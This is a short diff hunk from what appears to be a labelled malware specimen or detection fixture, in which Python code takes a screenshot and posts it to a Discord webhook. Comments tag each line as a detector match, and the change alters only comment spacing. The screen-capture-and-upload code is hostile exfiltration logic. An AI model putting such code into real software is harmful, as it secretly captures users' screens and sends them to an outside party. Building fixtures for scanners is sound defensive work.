@@ -6,4 +6,4 @@ HOOK = "https://discord.com/api/webhooks/000000000000000000/specimen-specimen-sp
 
 def tell():
     look().save("a.png")  # match: screen-capture
-    requests.post(HOOK, files={"f": open("a.png", "rb")})  # match: discord-webhook # match: secrets-sent
+    requests.post(HOOK, files={"f": open("a.png", "rb")})  # match: discord-webhook  # match: secrets-sent
